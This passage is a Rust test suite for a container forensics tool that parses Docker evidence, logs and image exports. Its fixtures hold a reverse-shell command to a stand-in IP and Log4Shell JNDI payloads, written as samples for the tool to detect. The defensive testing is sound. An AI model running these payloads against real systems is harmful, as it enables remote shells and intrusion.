//! Evidence as it comes from the wild, built in code where no third-party fixture has it:
//! standalone image configs and `docker diff` captures, Engine API shapes, log framings and
//! their times, pairing an export with its image, and the CLI's own input checks.

use serde_json::Value;

use crate::util::{run, run_json, write_files};

fn findings(b: &Value) -> Vec<(String, String)> {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["summary"].as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn standalone_image_config_secrets_and_facts() {
    let dir = tempfile::tempdir().unwrap();
    let config = br#"{"architecture":"amd64","os":"linux","created":"2026-11-20T08:00:00Z",
"config":{"User":"","Env":["PATH=/usr/bin","DB_PASSWORD=hunter2hunter2"],"ExposedPorts":{"8080/tcp":{}},
"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost:8080/ || exit 1"]},"Cmd":["catalina.sh","run"]},
"rootfs":{"type":"layers","diff_ids":["sha256:1111111111111111111111111111111111111111111111111111111111111111"]},
"history":[{"created":"2026-11-20T07:59:00Z","created_by":"ADD rootfs.tar /"},{"created":"2026-11-20T08:00:00Z","created_by":"CMD [\"catalina.sh\",\"run\"]","empty_layer":true}]}"#;
    write_files(dir.path(), &[("config.json", config)]);
    let p = dir.path().join("config.json");
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "image-config");
    let f = findings(b);
    let secret = f.iter().find(|(r, _)| r == "image.env-secrets").expect("secret finding");
    assert!(secret.1.contains("DB_PASSWORD") && !secret.1.contains("hunter2"), "{}", secret.1);
    let facts = f.iter().find(|(r, _)| r == "image.config").expect("facts");
    assert!(
        facts.1.contains("root (no USER set)") && facts.1.contains("8080/tcp") && facts.1.contains("curl -f")
    );
    let text = serde_json::to_string(&v).unwrap();
    assert!(!text.contains("hunter2"), "the secret value never reaches the report");
    let steps: Vec<&str> = b["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "image-history")
        .map(|e| e["time"].as_str().unwrap())
        .collect();
    assert_eq!(steps, ["2026-11-20T07:59:00.000000000Z", "2026-11-20T08:00:00.000000000Z"]);
    assert_eq!(b["image_objects"][0]["config"]["healthcheck"][0], "CMD-SHELL");
}

#[test]
fn saved_docker_diff_alone_runs_the_path_rules() {
    let p = crate::util::root().join("samples/log4shell/diff.txt");
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "diff");
    let rules: Vec<(String, String)> = b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            // Every rule of the fact, with every path its proof names (four deleted logs are one fact).
            let rules: Vec<String> =
                f["rules"].as_array().unwrap().iter().map(|r| r.as_str().unwrap().to_string()).collect();
            let paths: Vec<String> = f["evidence"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|l| l["members"].as_array().and_then(|m| m.last()).and_then(|m| m.as_str()))
                .map(String::from)
                .chain(f["title"].as_str().and_then(|t| t.rsplit(": ").next()).map(String::from))
                .collect();
            rules.into_iter().flat_map(move |r| paths.clone().into_iter().map(move |p| (r.clone(), p)))
        })
        .collect();
    for want in [
        ("file.diff.web-script", "/usr/local/tomcat/webapps/ROOT/assets/health.jsp"),
        ("file.diff.hidden-temp", "/tmp/.x/agent"),
        ("file.persistence.ssh-keys", "/root/.ssh/authorized_keys"),
        ("file.antiforensics.logs", "/var/log/dpkg.log"),
    ] {
        assert!(rules.iter().any(|(r, p)| r == want.0 && p == want.1), "{want:?} not in {rules:?}");
    }
    // Parent directories docker lists as `C`, and the JVM's own temp files, are not findings.
    assert!(!rules.iter().any(|(_, p)| p == "/tmp/hsperfdata_root/1" || p == "/root"), "{rules:?}");
    // Each finding cites its diff line.
    let f = b["findings"].as_array().unwrap().iter().find(|f| f["rule"] == "file.diff.hidden-temp").unwrap();
    assert_eq!(f["evidence"][0]["line"], 8);
    // With the export beside it, the rebuilt changes (with content) are what the rules see:
    // no diff-only duplicates.
    let (v, _) = run_json(&["scan", crate::util::root().join("samples/log4shell").to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert!(!b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["rule"].as_str().unwrap().starts_with("file.diff.")));
}

#[test]
fn scan_with_base_image_matches_diff_and_keeps_custody() {
    let s = crate::util::root().join("samples/log4shell");
    let (export, image) = (s.join("export.tar"), s.join("image.tar"));
    let (e, i) = (export.to_str().unwrap(), image.to_str().unwrap());
    let (d, _) = run_json(&["diff", "--image", i, e]);
    let want = d["container_changes"]["changes"].as_array().unwrap().len();
    assert_eq!(want, 40);
    let (v, _) = run_json(&["scan", e, "--base-image", i]);
    let b = &v["bundles"][0];
    let cc = &b["container_changes"];
    assert_eq!(cc["changes"].as_array().unwrap().len(), want, "{}", cc["base"]["description"]);
    assert_eq!(cc["changes"], d["container_changes"]["changes"]);
    assert!(cc["base"]["description"].as_str().unwrap().contains("given with --base-image"));
    let base =
        b["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == i).expect("base image in custody");
    assert_eq!(base["sha256"], crate::util::sha256_file(&image));
    assert_eq!(base["note"], "given with --base-image");
}

#[test]
fn a_report_saved_inside_the_bundle_is_not_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let log = b"10.0.0.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\" 200 1\n";
    write_files(dir.path(), &[("access.log", log)]);
    let d = dir.path().to_str().unwrap();
    let (first, _) = run_json(&["scan", d]);
    let hits = first["bundles"][0]["log_hits"].as_array().unwrap().len();
    assert!(hits >= 1);
    // Both report formats, written into the bundle itself.
    for (fmt, name) in [("json", "report.json"), ("text", "report.txt")] {
        let out = dir.path().join(name);
        let o = run(&["scan", d, "--format", fmt, "--output", out.to_str().unwrap()]);
        assert!(o.status.code().unwrap() <= 1, "{}", String::from_utf8_lossy(&o.stderr));
    }
    let (again, _) = run_json(&["scan", d]);
    let b = &again["bundles"][0];
    let kinds: Vec<(&str, &str)> = b["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["path"].as_str().unwrap(), a["kind"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [("access.log", "text-log"), ("report.json", "ctriage-report"), ("report.txt", "ctriage-report")]
    );
    assert_eq!(b["log_hits"].as_array().unwrap().len(), hits, "the reports' quoted payloads are no hits");
    assert!(b["artifacts"][1]["note"].as_str().unwrap().contains("never read back as evidence"));
    assert_eq!(b["findings"], first["bundles"][0]["findings"]);
}

#[test]
fn empty_directory_is_said_to_be_empty() {
    let dir = tempfile::tempdir().unwrap();
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let msgs: Vec<&str> = v["bundles"][0]["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap())
        .collect();
    assert_eq!(msgs, ["directory holds no files: nothing to analyse"]);
}

#[test]
fn cli_rejects_impossible_values() {
    let img = crate::util::root().join("samples/dvwa/image.tar");
    let img = img.to_str().unwrap();
    let out = run(&["layers", img, "--tree", "--at", "99"]);
    assert_eq!(out.status.code(), Some(64));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--at 99") && err.contains("has 5 layer(s), numbered 0..4"), "{err}");
    assert!(out.stdout.is_empty(), "no view of another layer is shown");
    let out = run(&["layers", img, "--tree", "--at", "4"]);
    assert!(out.status.code().unwrap() <= 1);
    // The view says which layer it is as of.
    let out = run(&["layers", img, "--tree", "--at", "3"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("merged view of image 0 as of layer 3 of 0..4 (70c606cd45dc COPY main.sh"),
        "{text}"
    );
    let (v, _) = run_json(&["layers", img, "--tree", "--at", "1"]);
    assert_eq!(v["trees"][0]["at_layer"], 1);
    let out = run(&["--jobs", "0", "scan", img]);
    assert_eq!(out.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--jobs"));
}

#[test]
fn layers_reads_any_tar_as_a_layer_and_says_what_else_is() {
    let dir = tempfile::tempdir().unwrap();
    // A plain layer (no whiteouts, no root dirs): one layer, three files, exit 0.
    let mut t = tar::Builder::new(Vec::new());
    for n in ["a.txt", "b.txt", "c.txt"] {
        let mut h = tar::Header::new_gnu();
        h.set_size(1);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, n, &b"x"[..]).unwrap();
    }
    let layer = dir.path().join("layer.tar");
    std::fs::write(&layer, t.into_inner().unwrap()).unwrap();
    let (v, code) = run_json(&["layers", layer.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(v["images"][0]["layout"], "layer-tar");
    assert_eq!(v["images"][0]["layers"][0]["added"], 3);
    // A log: exit 2, and said what it is.
    write_files(dir.path(), &[("app.log", b"2026-11-27 14:00:00,123 INFO started\n")]);
    let (v, code) = run_json(&["layers", dir.path().join("app.log").to_str().unwrap()]);
    assert_eq!(code, 2);
    assert!(v["diagnostics"][0]["message"].as_str().unwrap().contains("its content is text-log"));
}

#[test]
fn absolute_member_names_are_not_traversal() {
    let dir = tempfile::tempdir().unwrap();
    let mut t = tar::Builder::new(Vec::new());
    for (n, data) in [("/case/diff.txt", &b"A /tmp/x\n"[..]), ("../../escape.txt", &b"x\n"[..])] {
        let mut h = tar::Header::new_gnu();
        h.as_gnu_mut().unwrap().name[..n.len()].copy_from_slice(n.as_bytes());
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append(&h, data).unwrap();
    }
    let p = dir.path().join("bundle.tar");
    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    let diags: Vec<(&str, &str)> = v["bundles"][0]["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["locator"]["artifact"].as_str().unwrap(), d["message"].as_str().unwrap()))
        .collect();
    assert!(diags.iter().any(|(a, m)| *a == "../../escape.txt" && m.contains("traversal")), "{diags:?}");
    assert!(!diags.iter().any(|(a, m)| a.contains("diff.txt") && m.contains("traversal")), "{diags:?}");
}

/// A PAX extended-header record (`"<len> key=value\n"`, the length counting itself).
fn pax_record(key: &str, value: &str) -> Vec<u8> {
    let body = format!(" {key}={value}\n");
    let mut n = body.len() + 1;
    while format!("{n}{body}").len() != n {
        n += 1;
    }
    format!("{n}{body}").into_bytes()
}

#[test]
fn overlay_upper_dir_whiteouts_are_deletions() {
    // A tar of an overlayfs upper dir (`/var/lib/docker/overlay2/<id>/diff`): a deleted file is
    // a 0:0 character device, an opaque directory carries `trusted.overlay.opaque=y`.
    let mut t = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_entry_type(tar::EntryType::Char);
    h.set_device_major(0).unwrap();
    h.set_device_minor(0).unwrap();
    h.set_mode(0);
    h.set_size(0);
    h.set_cksum();
    t.append_data(&mut h, "etc/shadow", &[][..]).unwrap();
    let pax = pax_record("SCHILY.xattr.trusted.overlay.opaque", "y");
    let mut x = tar::Header::new_ustar();
    x.set_entry_type(tar::EntryType::XHeader);
    x.set_size(pax.len() as u64);
    x.set_mode(0o644);
    x.set_cksum();
    t.append_data(&mut x, "PaxHeaders/var/www", &pax[..]).unwrap();
    let mut d = tar::Header::new_ustar();
    d.set_entry_type(tar::EntryType::Directory);
    d.set_mode(0o755);
    d.set_size(0);
    d.set_cksum();
    t.append_data(&mut d, "var/www/", &[][..]).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("upper.tar");
    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
    let (v, code) = run_json(&["layers", "--files", p.to_str().unwrap()]);
    assert_eq!(code, 0, "{v}");
    let changes: Vec<(&str, &str)> = v["file_changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["change"].as_str().unwrap(), c["path"].as_str().unwrap()))
        .collect();
    assert!(changes.contains(&("deleted", "/etc/shadow")), "{changes:?}");
    assert_eq!(v["images"][0]["layers"][0]["opaque_dirs"][0], "/var/www");
}

#[test]
fn every_engine_api_and_cli_json_shape() {
    let dir = tempfile::tempdir().unwrap();
    let id = "69cb52f58d00aa11bb22cc33dd44ee55ff66aa77bb88cc99dd00ee11ff22aa33";
    let top = br#"{"Titles":["UID","PID","PPID","C","STIME","TTY","TIME","CMD"],"Processes":[["root","84010","84001","0","08:30","?","00:01:02","java -jar app.jar"],["root","84281","84010","0","14:03","?","00:00:00","bash -i"]]}"#;
    let changes =
        br#"[{"Path":"/tmp","Kind":0},{"Path":"/tmp/x","Kind":1},{"Path":"/var/log/a.log","Kind":2}]"#;
    let stats = br#"{"read":"2026-11-27T14:00:00Z","name":"/web","id":"69cb52f58d00","cpu_stats":{"cpu_usage":{"total_usage":200,"percpu_usage":[100,100]},"system_cpu_usage":1000,"online_cpus":2},"precpu_stats":{"cpu_usage":{"total_usage":100},"system_cpu_usage":900},"memory_stats":{"usage":1048576,"limit":2097152},"pids_stats":{"current":7}}"#;
    let images = br#"[{"Containers":-1,"Created":1700000000,"Id":"sha256:4dbc5f9c07028a985e14d1393e849ea07f68804c4293050d5a641b138db72daa","Labels":null,"ParentId":"","RepoDigests":["alpine@sha256:abc"],"RepoTags":["alpine:3.19"],"SharedSize":-1,"Size":7380000}]"#;
    let listing = format!(
        r#"[{{"Id":"{id}","Names":["/web"],"Image":"shop/web:1","ImageID":"sha256:1","Command":"java -jar app.jar","Created":1764252000,"Ports":[{{"IP":"0.0.0.0","PrivatePort":8080,"PublicPort":80,"Type":"tcp"}}],"Labels":{{}},"State":"running","Status":"Up 2 hours","HostConfig":{{"NetworkMode":"bridge"}},"NetworkSettings":{{"Networks":{{"bridge":{{}}}}}},"Mounts":[]}}]"#
    );
    let ps_json = br#"{"Command":"\"java -jar app.jar\"","CreatedAt":"2026-11-27 14:00:00 +0000 UTC","ID":"69cb52f58d00","Image":"shop/web:1","Names":"web","Ports":"0.0.0.0:80->8080/tcp","State":"running","Status":"Up 2 hours"}
"#;
    let inspect = format!(
        r#"[{{"Id":"{id}","Name":"/web","Image":"sha256:1","State":{{"Running":true,"StartedAt":"2026-11-27T14:00:00Z"}},"Config":{{"Image":"shop/web:1","Env":[]}},"HostConfig":{{"Privileged":false}}}}]"#
    );
    let image_inspect = br#"[{"Id":"sha256:4dbc5f9c07028a985e14d1393e849ea07f68804c4293050d5a641b138db72daa","RepoTags":["alpine:3.19"],"Created":"2026-11-01T00:00:00Z","Config":{"Env":["API_TOKEN=abcdefabcdef"],"User":"app"},"RootFS":{"Type":"layers","Layers":["sha256:aa"]}}]"#;
    write_files(
        dir.path(),
        &[
            ("top.json", top),
            ("changes.json", changes),
            ("stats.json", stats),
            ("images.json", images),
            ("containers.json", listing.as_bytes()),
            ("ps.jsonl", ps_json),
            ("inspect.json", inspect.as_bytes()),
            ("image-inspect.json", image_inspect),
        ],
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    let kinds: Vec<(&str, &str)> = b["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["path"].as_str().unwrap(), a["kind"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("changes.json", "diff"),
            ("containers.json", "ps"),
            ("image-inspect.json", "inspect"),
            ("images.json", "inspect"),
            ("inspect.json", "inspect"),
            ("ps.jsonl", "ps"),
            ("stats.json", "stats"),
            ("top.json", "top"),
        ]
    );
    assert_eq!(b["diagnostics"].as_array().unwrap().len(), 0, "{:#}", b["diagnostics"]);
    assert_eq!(b["processes"][0]["capture"]["processes"].as_array().unwrap().len(), 2);
    assert_eq!(b["diff"].as_array().unwrap().len(), 3);
    assert_eq!(b["stats"].as_array().unwrap().len(), 1);
    assert_eq!(b["ps"].as_array().unwrap().len(), 2, "the API listing and the --format json line");
    assert_eq!(b["containers"].as_array().unwrap().len(), 1, "only inspect makes containers");
    let imgs = b["image_objects"].as_array().unwrap();
    assert_eq!(imgs.len(), 2, "image inspect and the /images/json entry");
    let sources: Vec<&str> = imgs.iter().map(|i| i["source"].as_str().unwrap()).collect();
    assert_eq!(sources, ["image-inspect", "image-list"]);
    // A listing entry has no config: no facts are made up from it.
    let facts = b["findings"].as_array().unwrap().iter().filter(|f| f["rule"] == "image.config").count();
    assert_eq!(facts, 1, "only the image inspect states the image's configuration");
    // The image inspect's secret is a finding; its value is never shown.
    assert!(b["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "image.env-secrets"));
    assert!(!serde_json::to_string(&v).unwrap().contains("abcdefabcdef"));
}

#[test]
fn journald_export_is_read_entry_by_entry() {
    let dir = tempfile::tempdir().unwrap();
    let log = b"__CURSOR=s=1\n__REALTIME_TIMESTAMP=1764252000000000\nPRIORITY=6\nCONTAINER_ID=69cb52f58d00\nCONTAINER_NAME=web\nCONTAINER_PARTIAL_MESSAGE=true\nMESSAGE=GET /?q=${jndi:ldap://jou\n\n\
__CURSOR=s=2\n__REALTIME_TIMESTAMP=1764252000000100\nPRIORITY=6\nCONTAINER_ID=69cb52f58d00\nCONTAINER_NAME=web\nMESSAGE=rnal.example:1389/a} HTTP/1.1\n\n";
    write_files(dir.path(), &[("web.journal", log)]);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "journal-export");
    let hits = b["log_hits"].as_array().unwrap();
    let h = hits.iter().find(|h| h["rule"].as_str().unwrap().contains("jndi")).expect("joined JNDI hit");
    assert_eq!(h["locator"]["line"], 1);
    assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
    assert_eq!(h["stream"], "stdout");
    assert!(h["iocs"].to_string().contains("journal.example"), "{}", h["iocs"]);
}

/// One entry as docker's `local` log driver writes it: BE u32 length, protobuf LogEntry
/// (source = 1, time_nano = 2, line = 3, partial = 4), the length again.
pub(crate) fn local_entry(source: &str, time_nano: u64, line: &[u8], partial: bool) -> Vec<u8> {
    fn varint(out: &mut Vec<u8>, mut v: u64) {
        while v >= 0x80 {
            out.push((v as u8) | 0x80);
            v >>= 7;
        }
        out.push(v as u8);
    }
    let mut pb = vec![0x0a];
    varint(&mut pb, source.len() as u64);
    pb.extend_from_slice(source.as_bytes());
    pb.push(0x10);
    varint(&mut pb, time_nano);
    pb.push(0x1a);
    varint(&mut pb, line.len() as u64);
    pb.extend_from_slice(line);
    if partial {
        pb.extend_from_slice(&[0x20, 1]);
    }
    let n = (pb.len() as u32).to_be_bytes();
    [&n[..], &pb, &n].concat()
}

#[test]
fn local_driver_logs_are_decoded() {
    let dir = tempfile::tempdir().unwrap();
    let mut f = local_entry("stdout", 1_764_252_000_000_000_001, b"GET / 200\n", false);
    f.extend(local_entry("stdout", 1_764_252_001_000_000_000, b"GET /?q=${jndi:ldap://lo", true));
    f.extend(local_entry("stderr", 1_764_252_001_500_000_000, b"unrelated\n", false));
    f.extend(local_entry("stdout", 1_764_252_002_000_000_000, b"cal.example/a} HTTP/1.1\n", false));
    let p = dir.path().join("container.log");
    std::fs::write(&p, &f).unwrap();
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "local-log");
    let h = b["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["rule"].as_str().unwrap().contains("jndi"))
        .unwrap();
    assert_eq!(h["locator"]["line"], 2, "the entry where the message starts");
    assert_eq!(h["time"], "2025-11-27T14:00:01.000000000Z");
    assert_eq!(h["stream"], "stdout");
    // `ctriage logs` reads it the same way; a cut-off file is said to be corrupt where it is.
    std::fs::write(&p, &f[..f.len() - 2]).unwrap();
    let (v, code) = run_json(&["logs", p.to_str().unwrap()]);
    assert_eq!(code & 2, 2);
    let d = v["bundles"][0]["diagnostics"].to_string();
    assert!(d.contains("local log driver file corrupt after 3 entries"), "{d}");
}

/// The dvwa image is not what the log4shell container ran from (23.9 % of its files are in
/// the export): `diff` refuses, the reason first on standard error, no diff, exit 65.
#[test]
fn diff_image_unrelated_is_refused_with_its_own_exit_code() {
    let s = crate::util::root().join("samples");
    let export = s.join("log4shell/export.tar");
    let other = s.join("dvwa/image.tar");
    let (o, e) = (other.to_str().unwrap(), export.to_str().unwrap());
    let out = run(&["diff", "--image", o, e]);
    assert_eq!(out.status.code(), Some(65));
    assert!(out.stdout.is_empty(), "no diff: {}", String::from_utf8_lossy(&out.stdout));
    let err = String::from_utf8_lossy(&out.stderr);
    let first = err.lines().next().unwrap_or_default();
    assert!(first.starts_with("ctriage: diff refused: diff --image ir-evidence/dvwa:2026-11-27"), "{err}");
    for want in ["23.9% (11 of 46 files)", "threshold of 50%", "Give the image the container ran from"] {
        assert!(first.contains(want), "{want}: {first}");
    }
    assert_eq!(err.lines().count(), 1, "the reason, and nothing after it: {err}");
    // JSON: the envelope with no changes and no findings, the reason as a diagnostic.
    let (v, code) = run_json(&["diff", "--image", o, e]);
    assert_eq!(code, 65);
    assert_eq!(v["container_changes"], Value::Null);
    assert_eq!(v["findings"], serde_json::json!([]));
    assert!(
        v["diagnostics"].to_string().contains("refused as the base of the export"),
        "{}",
        v["diagnostics"]
    );
    crate::util::validate_against_schema(&v);
    // --output: no file is written for a refused diff.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("diff.txt");
    let out = run(&["diff", "--image", o, e, "--output", file.to_str().unwrap(), "-q"]);
    assert_eq!(out.status.code(), Some(65));
    assert!(out.stderr.is_empty() && !file.exists());
    // The image the container did run from still diffs.
    let own = s.join("log4shell/image.tar");
    let out = run(&["diff", "--image", own.to_str().unwrap(), e]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 40);
}

/// `scan --base-image` with an unrelated image: refused with a warning saying why, listed
/// for custody, never analysed: the report is the export's alone.
#[test]
fn scan_base_image_unrelated_is_refused_not_believed() {
    let s = crate::util::root().join("samples");
    let export = s.join("log4shell/export.tar");
    let other = s.join("dvwa/image.tar");
    let (o, e) = (other.to_str().unwrap(), export.to_str().unwrap());
    let (alone, alone_code) = run_json(&["scan", e]);
    let (v, code) = run_json(&["scan", e, "--base-image", o]);
    assert_eq!(code, alone_code);
    let b = &v["bundles"][0];
    assert_eq!(b["container_changes"], Value::Null);
    let rules = |b: &Value| -> Vec<String> { findings(b).into_iter().map(|(r, _)| r).collect() };
    assert_eq!(rules(b), rules(&alone["bundles"][0]), "no finding from the refused base");
    assert!(!rules(b).iter().any(|r| r.starts_with("file.")), "{:?}", rules(b));
    assert_eq!(v["summary"]["findings"], alone["summary"]["findings"]);
    let warned: Vec<&str> = b["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["level"] == "warning")
        .map(|d| d["message"].as_str().unwrap())
        .filter(|m| {
            m.starts_with("--base-image ir-evidence/dvwa:2026-11-27 refused as the base of the export")
        })
        .collect();
    assert_eq!(warned.len(), 1, "{:#}", b["diagnostics"]);
    assert!(warned[0].contains("23.9% (11 of 46 files)") && warned[0].contains("threshold of 50%"));
    let img = &b["images"][0];
    assert_eq!(img["role"], "base-image");
    assert!(img["refused"].as_str().unwrap().contains("23.9%"), "{img}");
    let base = b["artifacts"].as_array().unwrap().iter().find(|a| a["path"] == o).expect("in custody");
    assert_eq!(base["sha256"], crate::util::sha256_file(&other));
    assert!(base["note"].as_str().unwrap().starts_with("given with --base-image (refused as the base"));
    crate::util::validate_against_schema(&v);
}

/// Below the threshold, a base the bundle's own container inspect names is still the base:
/// that is evidence too.
#[test]
fn a_base_image_named_by_the_bundles_inspect_is_taken_below_the_threshold() {
    let s = crate::util::root().join("samples");
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(s.join("log4shell/export.tar"), dir.path().join("export.tar")).unwrap();
    let mut inspect: Value =
        serde_json::from_slice(&std::fs::read(s.join("log4shell/inspect.json")).unwrap()).unwrap();
    let dvwa_id = "sha256:4851056ef61b784b3a63d72268e4f44b33a4bb529ccfa71416e5392f8f96227a";
    inspect[0]["Image"] = dvwa_id.into();
    std::fs::write(dir.path().join("inspect.json"), inspect.to_string()).unwrap();
    let other = s.join("dvwa/image.tar");
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap(), "--base-image", other.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let d = b["container_changes"]["base"]["description"].as_str().unwrap();
    assert!(
        d.contains("given with --base-image and a container inspect in the bundle names its image id"),
        "{d}"
    );
    assert!(d.contains("23.9%"), "{d}");
    assert!(!b["diagnostics"].to_string().contains("refused"));
    assert_eq!(b["images"][0].get("refused"), None);
}

#[test]
fn journalctl_json_lines_are_journal_entries() {
    let dir = tempfile::tempdir().unwrap();
    let log = br#"{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1764252000000000","PRIORITY":"3","CONTAINER_ID":"69cb52f58d00","CONTAINER_NAME":"web","MESSAGE":"sh -c 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'"}
"#;
    write_files(dir.path(), &[("web.json", log)]);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    assert_eq!(b["artifacts"][0]["kind"], "journal-export");
    let h = &b["log_hits"][0];
    assert_eq!(h["stream"], "stderr");
    assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
}

#[test]
fn logs_inside_a_tar_keep_their_framing() {
    // An export holding a CRI log (`P` parts to join), a local-driver file and a native
    // journal file (not decodable here: said so).
    let cri = b"2026-11-27T14:00:01.000000000Z stdout P GET /?q=${jn\n2026-11-27T14:00:01.000000001Z stderr F other\n2026-11-27T14:00:01.000000002Z stdout F di:ldap://cri-in-tar.example/a}\n";
    let local =
        local_entry("stdout", 1_764_252_000_000_000_000, b"x=${jndi:ldap://local-in-tar.example/a}\n", false);
    let mut t = tar::Builder::new(Vec::new());
    for (name, data) in [
        (".dockerenv", &b""[..]),
        ("etc/passwd", &b"root:x:0:0::/root:/bin/sh\n"[..]),
        ("usr/bin/true", &b"x"[..]),
        ("var/log/pods/ns_web_1/web/0.log", &cri[..]),
        ("var/lib/docker/containers/abc/local-logs/container.log", &local[..]),
        ("var/log/journal/0123/system.journal", &b"LPKSHHRH\0\0\0"[..]),
    ] {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        t.append_data(&mut h, name, data).unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("export.tar");
    std::fs::write(&p, t.into_inner().unwrap()).unwrap();
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let hosts: Vec<(String, u64)> = b["log_hits"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["rule"].as_str().unwrap().contains("jndi"))
        .map(|h| (h["excerpt"].as_str().unwrap().to_string(), h["locator"]["line"].as_u64().unwrap()))
        .collect();
    assert!(hosts.iter().any(|(e, l)| e.contains("cri-in-tar.example") && *l == 1), "{hosts:?}");
    assert!(hosts.iter().any(|(e, _)| e.contains("local-in-tar.example")), "{hosts:?}");
    let msgs = b["diagnostics"].to_string();
    assert!(msgs.contains("1 systemd journal file(s) in their native binary format not read"), "{msgs}");
}

#[test]
fn an_inspect_naming_the_image_id_pairs_a_much_changed_export() {
    use crate::image_build::{export, sha, step, Image, Layer};
    let base = Layer::new()
        .dir("etc")
        .file("etc/a.conf", b"a=1\n")
        .file("etc/b.conf", b"b=1\n")
        .file("etc/c.conf", b"c=1\n")
        .dir("usr")
        .dir("usr/bin")
        .file("usr/bin/tool", b"\x7fELF tool")
        .build();
    let img = Image::new("shop/tool:1").layer(base, step("2026-01-01T00:00:00Z", "ADD rootfs /"));
    // The container rewrote three of the four files: 25% unchanged, below the threshold.
    let exp = export(
        Layer::new()
            .dir("etc")
            .file("etc/a.conf", b"a=2\n")
            .file("etc/b.conf", b"b=2\n")
            .file("etc/c.conf", b"c=2\n")
            .dir("usr")
            .dir("usr/bin")
            .file("usr/bin/tool", b"\x7fELF tool"),
    );
    let id = format!("sha256:{}", sha(img.config().as_bytes()));
    let inspect = format!(
        r#"[{{"Id":"abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789","Name":"/tool","Image":"{id}","State":{{"Running":true}},"Config":{{"Image":"shop/tool:1"}},"HostConfig":{{}}}}]"#
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("image.tar"), img.docker_save()).unwrap();
    std::fs::write(dir.path().join("export.tar"), &exp).unwrap();
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert!(v["bundles"][0]["container_changes"].is_null(), "25% alone does not pair them");
    std::fs::write(dir.path().join("inspect.json"), inspect).unwrap();
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let d = v["bundles"][0]["container_changes"]["base"]["description"].as_str().unwrap().to_string();
    assert!(d.contains("a container inspect in the bundle names its image id"), "{d}");
}

#[test]
fn a_partial_record_continues_into_the_next_rotated_file_of_the_same_container_only() {
    let dir = tempfile::tempdir().unwrap();
    let pad = "x".repeat(16 * 1024);
    let part = format!(
        "{{\"log\":\"ok\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T13:59:59Z\"}}\n{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n"
    );
    let rest = "{\"log\":\"di:ldap://rotated.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:01Z\"}\n";
